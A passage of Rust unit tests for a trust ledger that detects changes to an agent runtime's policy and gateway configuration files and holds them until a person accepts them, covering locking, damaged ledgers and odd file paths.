        let err = book.begin(&files(dir.path())).unwrap_err().to_string();
        assert!(err.contains("policy.yaml was created"), "{err}");
        assert!(err.contains("(still running)"), "{err}");
        // `pending` lists it, as the still-running sessions' (nothing recorded yet).
        let pending = book.pending().unwrap();
        assert_eq!(pending.len(), 2);
        assert!(pending.iter().all(|c| c.session == SessionState::Running));
        assert_eq!(first.end().unwrap().len(), 1);
        assert_eq!(second.end().unwrap().len(), 1);
        assert_eq!(book.pending().unwrap().len(), 2);
    }

    /// A person who changed a file while a long session runs (an `mcp serve`) can accept it
    /// at once: the start it held up goes ahead, and the session's end takes the change for
    /// accepted.
    #[test]
    fn a_change_under_a_running_session_can_be_accepted_at_once() {
        let dir = tempfile::tempdir().unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let serving = book.begin(&files(dir.path())).unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "edited").unwrap();
        assert!(book.begin(&files(dir.path())).is_err());
        let accepted = book.accept(|_| true).unwrap();
        assert_eq!(accepted.len(), 1);
        assert_eq!(accepted[0].session, SessionState::Running);
        book.begin(&files(dir.path())).unwrap().end().unwrap();
        assert!(serving.end().unwrap().is_empty());
        assert!(book.pending().unwrap().is_empty());
        // A change after the acceptance is one again.
        let serving = book.begin(&files(dir.path())).unwrap();
        book.accept(|_| true).unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "again").unwrap();
        assert_eq!(serving.end().unwrap().len(), 1);
    }

    /// A change to another project's files does not hold this one up, and accepting can be
    /// done for some changes only.
    #[test]
    fn only_changes_to_a_start_s_own_files_hold_it_up() {
        let dir = tempfile::tempdir().unwrap();
        let (a, b) = (dir.path().join("a"), dir.path().join("b"));
        std::fs::create_dir_all(&a).unwrap();
        std::fs::create_dir_all(&b).unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(&files(&a)).unwrap();
        std::fs::write(a.join("policy.yaml"), "x").unwrap();
        watch.end().unwrap();
        assert!(book.begin(&files(&a)).is_err());
        book.begin(&files(&b)).unwrap().end().unwrap();
        assert!(book.accept(|c| c.path.starts_with(&b)).unwrap().is_empty());
        assert_eq!(book.accept(|c| c.path.starts_with(&a)).unwrap().len(), 1);
        book.begin(&files(&a)).unwrap().end().unwrap();
        // Nothing pending, no session: no file left.
        assert!(!book.path().exists());
    }

    /// A configuration found in the folder a process runs in is refused until accepted; then
    /// it is loaded, whatever later edits between sessions. A file of a folder that is gone
    /// is forgotten.
    #[test]
    fn found_configurations_wait_for_acceptance() {
        let dir = tempfile::tempdir().unwrap();
        let sub = dir.path().join("sub/.agent-runtime");
        std::fs::create_dir_all(&sub).unwrap();
        let found = vec![sub.join("gateway.yaml")];
        std::fs::write(&found[0], "hooks: []").unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let err = book.check_found(&found).unwrap_err().to_string();
        assert!(
            err.contains("not accepted as it is now (new or changed: /"),
            "{err}"
        );
        assert!(!book.path().exists(), "a refusal records nothing");
        assert_eq!(book.accept_found(&found).unwrap(), found);
        assert!(book.accept_found(&found).unwrap().is_empty());
        book.check_found(&found).unwrap();
        // Changed (by anyone, at any time): accepted again before it is loaded.
        std::fs::write(&found[0], "hooks: [{ name: x, command: [sh] }]").unwrap();
        assert!(book.check_found(&found).is_err());
        assert_eq!(book.accept_found(&found).unwrap(), found);
        book.check_found(&found).unwrap();
        // Its folder gone, the acceptance goes with it.
        std::fs::remove_dir_all(dir.path().join("sub")).unwrap();
        book.pending().unwrap();
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::write(&found[0], "hooks: [{ name: x, command: [sh] }]").unwrap();
        assert!(book.check_found(&found).is_err());
    }

    /// A pending change to a file whose folder is gone is forgotten (a deleted project's).
    #[test]
    fn changes_in_folders_that_are_gone_are_forgotten() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("project");
        std::fs::create_dir(&project).unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(&files(&project)).unwrap();
        std::fs::write(project.join("policy.yaml"), "x").unwrap();
        watch.end().unwrap();
        assert_eq!(book.pending().unwrap().len(), 1);
        std::fs::remove_dir_all(&project).unwrap();
        assert!(book.pending().unwrap().is_empty());
        assert!(!book.path().exists());
    }

    /// What a session began with is compared at its end even if the book lost it (a tool
    /// that could write the book emptied it).
    #[test]
    fn a_session_erased_from_the_book_still_compares() {
        let dir = tempfile::tempdir().unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(&files(dir.path())).unwrap();
        std::fs::write(dir.path().join("policy.yaml"), "x").unwrap();
        std::fs::write(book.path(), r#"{"version": 1}"#).unwrap();
        assert_eq!(watch.end().unwrap().len(), 1);
        assert_eq!(book.pending().unwrap().len(), 1);
    }

    /// A lock another holder keeps for a while is waited for (up to LOCK_WAIT, after which
    /// the lock file is named).
    #[test]
    fn a_held_lock_is_waited_for() {
        let dir = tempfile::tempdir().unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let held = std::fs::File::create(&book.files()[1]).unwrap();
        held.lock().unwrap();
        // (The wait is LOCK_WAIT; released from another thread before it runs out.) The flag
        // is set before the release: a `begin` that did not wait would find it unset.
        let released = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let release = {
            let released = released.clone();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_millis(200));
                released.store(true, std::sync::atomic::Ordering::SeqCst);
                drop(held);
            })
        };
        let watch = book.begin(&files(dir.path())).unwrap();
        assert!(
            released.load(std::sync::atomic::Ordering::SeqCst),
            "began while the lock was held"
        );
        watch.end().unwrap();
        release.join().unwrap();
    }

    #[test]
    fn a_damaged_book_is_refused_and_named() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("trust.json");
        std::fs::write(&path, "{ not json").unwrap();
        let book = TrustBook::new(&path);
        let err = book.begin(&files(dir.path())).unwrap_err().to_string();
        assert!(err.contains("trust.json cannot be read"), "{err}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "{ not json");
        std::fs::write(&path, r#"{"version": 9}"#).unwrap();
        let err = book.pending().unwrap_err().to_string();
        assert!(err.contains("format 9"), "{err}");
    }

    /// A path that is not UTF-8 (a folder named so) is kept as its bytes, and compared as
    /// the same path.
    #[test]
    fn paths_that_are_not_utf8_are_kept_exactly() {
        use std::os::unix::ffi::OsStrExt;
        let dir = tempfile::tempdir().unwrap();
        let odd = dir.path().join(std::ffi::OsStr::from_bytes(b"odd-\xff"));
        std::fs::create_dir(&odd).unwrap();
        let file = odd.join("policy.yaml");
        std::fs::write(&file, "a").unwrap();
        let book = TrustBook::new(dir.path().join("trust.json"));
        let watch = book.begin(std::slice::from_ref(&file)).unwrap();
        assert!(watch.end().unwrap().is_empty());
        let watch = book.begin(std::slice::from_ref(&file)).unwrap();
        std::fs::write(&file, "b").unwrap();
        let changes = watch.end().unwrap();
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].path, file);
        assert_eq!(book.pending().unwrap(), changes);
        let text = std::fs::read_to_string(book.path()).unwrap();
        assert!(text.contains("6f64642dff"), "{text}");
    }

    #[test]
    fn process_start_reads_past_a_name_with_parentheses() {
        // A command named `a) b (c` (a name may hold both): fields 3 to 22 follow it.
        let fields: Vec<String> = (3..=22).map(|n| n.to_string()).collect();
        let line = format!("12 (a) b (c) {} 99 100\n", fields.join(" "));
        assert_eq!(start_time_of_stat(&line), Some(22));
        assert_eq!(start_time_of_stat("12 (no end"), None);
        let own = process_start(std::process::id());
        assert!(own.is_some());
        assert!(is_alive(std::process::id(), own));
        assert!(!is_alive(std::process::id(), own.map(|s| s + 1)));
    }
}
